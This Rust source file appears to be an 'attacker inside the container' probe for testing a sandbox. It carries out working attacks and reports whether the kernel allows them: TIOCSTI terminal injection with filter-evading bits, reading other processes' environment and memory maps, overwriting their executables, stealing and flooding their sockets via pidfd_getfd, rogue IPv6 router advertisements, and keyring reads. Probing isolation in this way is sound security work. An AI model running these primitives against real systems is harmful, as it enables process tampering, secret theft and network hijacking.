//! What an attacker calls inside that no program of busybox does: `inside ATTACK [ARGUMENT]` prints what the kernel says.

#![allow(
    clippy::indexing_slicing,
    clippy::print_stdout,
    reason = "fields of a message; what is printed is the answer"
)]

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::ExitCode;

/// `TIOCSTI` with bits set that the kernel ignores and a filter may compare.
const HIGH_BITS: u64 = 0x1_0000_0000;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let number = args.get(1).and_then(|text| text.parse().ok()).unwrap_or(0);
    let result = match args.first().map(String::as_str) {
        Some("push") => push(0),
        Some("push-high") => push(HIGH_BITS),
        Some("socket") => call(libc::SYS_socket, [number, 5, 0, 0]),
        Some("call") => call(number, [0; 4]),
        Some("keys") => session_keys(),
        Some("advertise") => advertise(number),
        Some("watch") => watch(),
        Some("tamper") => tamper(),
        Some("keyed") => keyed(args.get(1..).unwrap_or_default()),
        _ => return ExitCode::from(2),
    };
    match result {
        Ok(value) => println!("ok {value}"),
        Err(error) => println!("error {}", error.raw_os_error().unwrap_or(0)),
    }
    ExitCode::SUCCESS
}

/// Looks into every process that appears until there is a file `/tmp/stop`, and says what it has seen of those that run no program of
/// `/bin`. What they execute is opened, and written to as soon as it can be.
fn watch() -> io::Result<i64> {
    let (mut seen, mut held) = (BTreeSet::new(), Vec::new());
    let own = [fs::metadata("/")?.dev(), fs::metadata("/proc")?.dev(), fs::metadata("/dev")?.dev()];
    let name = |file: &File| format!("/proc/self/fd/{}", file.as_raw_fd());
    while !Path::new("/tmp/stop").exists() {
        for entry in fs::read_dir("/proc")?.flatten() {
            let process = entry.path();
            let Ok(program) = fs::read_link(process.join("exe")) else { continue };
            if !program.starts_with("/bin") {
                // By then it may run a program of /bin, which is the image's own.
                let alien =
                    |file: &File| fs::read_link(name(file)).is_ok_and(|path| !path.starts_with("/bin"));
                held.extend(
                    File::open(process.join("exe")).ok().filter(|file| held.len() < 200 && alien(file)),
                );
                seen.insert(format!("exe {}", program.display()));
                look_into(&process, own, &mut seen);
            }
        }
        let opened = held.iter().filter_map(|file| File::options().write(true).open(name(file)).ok());
        let wrote = opened.filter(|file| (&*file).write_all(b"overwritten").is_ok()).count();
        seen.extend((wrote > 0).then(|| "WROTE".to_owned()));
    }
    seen.iter().for_each(|line| println!("{line}"));
    i64::try_from(seen.len()).map_err(io::Error::other)
}

/// Takes the sockets of every process that appears and is no program of `/bin`, and talks nonsense to whoever is at the other end, until
/// there is a file `/tmp/stop`. The number of messages.
fn tamper() -> io::Result<i64> {
    let long = vec![0xee; 65_536];
    let mut sent = 0;
    while !Path::new("/tmp/stop").exists() {
        for entry in fs::read_dir("/proc")?.flatten() {
            let process = entry.path();
            let name = entry.file_name().to_string_lossy().parse::<i64>();
            let Ok(pid) = name else { continue };
            if !fs::read_link(process.join("exe")).is_ok_and(|program| !program.starts_with("/bin")) {
                continue;
            }
            let Ok(handle) = call(libc::SYS_pidfd_open, [pid, 0, 0, 0]) else { continue };
            for fd in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
                let is_socket =
                    fs::read_link(fd.path()).is_ok_and(|to| to.to_string_lossy().starts_with("socket:"));
                let number = fd.file_name().to_string_lossy().parse().unwrap_or(-1);
                if is_socket {
                    sent += talk(handle, number, &long);
                }
            }
            call(libc::SYS_close, [handle, 0, 0, 0])?;
        }
    }
    Ok(sent)
}

/// Long and short messages on a copy of that socket; how many were taken.
fn talk(process: i64, socket: i64, long: &[u8]) -> i64 {
    let Ok(copy) = call(libc::SYS_pidfd_getfd, [process, socket, 0, 0]) else { return 0 };
    let mut sent = 0;
    for bytes in [&[0xff; 8][..], &[0], long] {
        let flags = libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL;
        // SAFETY: the pointer names as many bytes as the argument behind it says.
        let result =
            unsafe { libc::syscall(libc::SYS_sendto, copy, bytes.as_ptr(), bytes.len(), flags, 0, 0) };
        sent += i64::from(result > 0);
    }
    let _ = call(libc::SYS_close, [copy, 0, 0, 0]);
    sent
}

/// Where its directories and descriptors lead, and what lies in directories of other filesystems than the container's own.
fn look_into(process: &Path, own: [u64; 3], seen: &mut BTreeSet<String>) {
    for name in ["cwd", "root"] {
        seen.extend(fs::read_link(process.join(name)).ok().map(|to| format!("{name} {}", to.display())));
    }
    for entry in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
        let Ok(to) = fs::read_link(entry.path()) else { continue };
        seen.insert(format!("fd {}", to.display()));
        let Ok(data) = fs::metadata(entry.path()) else { continue };
        if data.is_dir() && !own.contains(&data.dev()) {
            let names = fs::read_dir(entry.path()).into_iter().flatten().flatten().take(5);
            seen.extend(names.map(|name| format!("directory {} has {:?}", to.display(), name.file_name())));
        }
    }
    for name in ["environ", "maps"] {
        seen.extend(fs::read(process.join(name)).ok().map(|text| format!("{name} {}", text.escape_ascii())));
    }
}

/// Pushes a character into the terminal at standard input, as if it had been typed.
fn push(high: u64) -> io::Result<i64> {
    let letter = b'!';
    let request = libc::TIOCSTI | high;
    let arguments = [0, i64::from_ne_bytes(request.to_ne_bytes()), address(&raw const letter), 0];
    call(libc::SYS_ioctl, arguments)
}

/// The number of bytes of the list of keys in the session keyring: `KEYCTL_READ` of `KEY_SPEC_SESSION_KEYRING`.
fn session_keys() -> io::Result<i64> {
    let mut list = [0_u8; 4096];
    call(libc::SYS_keyctl, [11, -3, address(list.as_mut_ptr()), 4096])
}

/// Tells all neighbours of the interface with that index that this is their router, and of a network: RFC 4861, 4.2 and 4.6.2.
fn advertise(interface: i64) -> io::Result<i64> {
    const ETHERNET_IPV6: i32 = 0x86dd;
    let socket = call(libc::SYS_socket, [libc::AF_PACKET.into(), libc::SOCK_RAW.into(), 0, 0])?;
    let frame = advertisement();
    // `struct sockaddr_ll`: family, protocol, index, hardware type, packet type, length and address.
    let [a, b, c, d] = i32::try_from(interface).unwrap_or(0).to_ne_bytes();
    let [high, low] = u16::try_from(ETHERNET_IPV6).unwrap_or(0).to_be_bytes();
    let to = [17, 0, high, low, a, b, c, d, 0, 0, 0, 6, 0x33, 0x33, 0, 0, 0, 1, 0, 0];
    // SAFETY: both pointers name as many bytes as the arguments behind them say.
    let sent = unsafe {
        libc::syscall(libc::SYS_sendto, socket, frame.as_ptr(), frame.len(), 0, to.as_ptr(), to.len())
    };
    if sent < 0 { Err(io::Error::last_os_error()) } else { Ok(sent) }
}

/// The frame: from fe80::bad to all nodes, lifetime half an hour, 2001:db8:bad::/64 on this link.
fn advertisement() -> Vec<u8> {
    let (mut from, mut all) = ([0_u8; 16], [0_u8; 16]);
    (from[0], from[1], from[14], from[15]) = (0xfe, 0x80, 0x0b, 0xad);
    (all[0], all[1], all[15]) = (0xff, 2, 1);
    let mut message = vec![134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0];
    message.extend([3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0]);
    message.extend([0x20, 1, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let length = u8::try_from(message.len()).unwrap_or(0);
    let counted = [&from[..], &all, &[0, 0, 0, length, 0, 0, 0, 58], &message].concat();
    let sum: u32 = counted.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1])).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    let check = !u16::try_from((folded & 0xffff) + (folded >> 16)).unwrap_or(0);
    message[2..4].copy_from_slice(&check.to_be_bytes());
    let ethernet = [0x33, 0x33, 0, 0, 0, 1, 2, 0, 0, 0, 0x0b, 0xad, 0x86, 0xdd];
    [&ethernet[..], &[0x60, 0, 0, 0, 0, length, 58, 255], &from, &all, &message].concat()
}

/// Joins a session keyring, puts a key into it, and goes on as another program.
fn keyed(program: &[String]) -> io::Result<i64> {
    use std::os::unix::process::CommandExt;
    call(libc::SYS_keyctl, [1, address(c"lct-session".as_ptr().cast()), 0, 0])?;
    let (kind, name) = (c"user".as_ptr(), c"lct-secret".as_ptr());
    // SAFETY: two strings, and a payload of 6 bytes.
    let key = unsafe { libc::syscall(libc::SYS_add_key, kind, name, c"secret".as_ptr(), 6, -3) };
    if key < 0 {
        return Err(io::Error::last_os_error());
    }
    let (name, rest) = program.split_first().ok_or(io::ErrorKind::InvalidInput)?;
    Err(std::process::Command::new(name).args(rest).exec())
}

fn address(pointer: *const u8) -> i64 {
    i64::try_from(pointer.expose_provenance()).unwrap_or(0)
}

fn call(number: i64, [a, b, c, d]: [i64; 4]) -> io::Result<i64> {
    // SAFETY: pointers among the arguments name a byte, or as many bytes as an argument says, of the callers above; other calls get none.
    let result = unsafe { libc::syscall(number, a, b, c, d) };
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}
